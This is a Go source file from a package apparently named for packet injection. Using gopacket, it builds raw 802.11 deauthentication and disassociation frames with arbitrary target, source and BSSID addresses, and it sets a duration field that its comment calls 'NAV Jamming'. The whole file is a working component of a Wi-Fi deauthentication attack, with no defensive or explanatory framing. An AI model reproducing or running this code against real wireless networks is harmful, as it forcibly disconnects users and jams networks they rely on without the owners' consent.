package injection

import (
	"fmt"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

// SerializeDeauthPacket generates a generic Deauthentication frame.
func SerializeDeauthPacket(targetMAC, senderMAC, bssid net.HardwareAddr, reasonCode uint16, seq uint16) ([]byte, error) {
	return serializeManagementFrame(layers.Dot11TypeMgmtDeauthentication, targetMAC, senderMAC, bssid, reasonCode, seq)
}

// serializeManagementFrame helper (internal)
func serializeManagementFrame(subtype layers.Dot11Type, targetMAC, address2, address3 net.HardwareAddr, reasonCode uint16, seq uint16) ([]byte, error) {
	// Minimal 8-byte RadioTap header: version, pad, length, empty present bitmap
	radiotap := &layers.RadioTap{}

	// Construct Dot11 header
	dot11 := &layers.Dot11{
		Type:           subtype,
		Address1:       targetMAC, // Destination
		Address2:       address2,  // Source
		Address3:       address3,  // BSSID
		SequenceNumber: seq,
		DurationID:     0x1388, // 5000us (NAV Jamming)
	}

	// Payload based on subtype
	var payload gopacket.SerializableLayer

	switch subtype {
	case layers.Dot11TypeMgmtDeauthentication:
		payload = &layers.Dot11MgmtDeauthentication{Reason: layers.Dot11Reason(reasonCode)}
	case layers.Dot11TypeMgmtDisassociation:
		payload = &layers.Dot11MgmtDisassociation{Reason: layers.Dot11Reason(reasonCode)}
	default:
		return nil, fmt.Errorf("unsupported management subtype: %v", subtype)
	}

	// Serialize
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{
		FixLengths:       true,
		ComputeChecksums: true,
	}

	if err := gopacket.SerializeLayers(buf, opts, radiotap, dot11, payload); err != nil {
		return nil, fmt.Errorf("serialize failed: %w", err)
	}

	return buf.Bytes(), nil
}
